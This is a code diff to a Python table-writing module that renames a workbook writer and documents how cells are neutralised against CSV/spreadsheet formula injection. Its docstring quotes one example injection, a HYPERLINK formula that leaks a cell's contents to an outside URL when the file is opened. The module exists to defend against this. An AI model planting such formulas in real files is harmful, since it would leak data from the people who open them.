@@ -4,9 +4,10 @@
 ``-`` or ``@`` (or a tab or carriage return before one) for a formula: a
 party named ``=HYPERLINK("http://…?leak="&A2)`` would run when a judge opens
 the file. :func:`text_cells` prefixes such a cell with ``'`` (as OWASP
-advises for CSV injection); :func:`write_csv` and :func:`write_workbook`, the
-only ways casegraph writes a table, both go through it, and a workbook's
-cells are written as strings, never formulas.
+advises for CSV injection); :func:`write_csv` and :func:`write_sheets` (and
+the clerk's 结果.xlsx, :mod:`casegraph.write.workbook`), the only ways
+casegraph writes a table, all go through it, and a workbook's cells are
+written as strings, never formulas.
 
 **Nothing half-written.** Three ways to write, one for each shape of output,
 all of them staged beside their place and renamed into it:
@@ -99,13 +100,13 @@ def write_csv(df: pd.DataFrame, path: Path, columns=None) -> None:
     text_cells(df).to_csv(path, index=False, encoding=C.CSV_ENCODING, float_format="%.2f")
 
 
-def write_workbook(sheets: Mapping[str, pd.DataFrame], path: Path) -> None:
+def write_sheets(sheets: Mapping[str, pd.DataFrame], path: Path) -> None:
     """Tables as the sheets of one .xlsx workbook, every cell neutralised
     (:func:`text_cells`) and text written as text, never as a formula.
 
     >>> import openpyxl
     >>> book = Path(tempfile.mkdtemp()) / "flags.xlsx"
-    >>> write_workbook({"flags": pd.DataFrame({"name": ["=1+1"]})}, book)
+    >>> write_sheets({"flags": pd.DataFrame({"name": ["=1+1"]})}, book)
     >>> cell = openpyxl.load_workbook(book)["flags"]["A2"]
     >>> cell.value, cell.data_type
     ("'=1+1", 's')
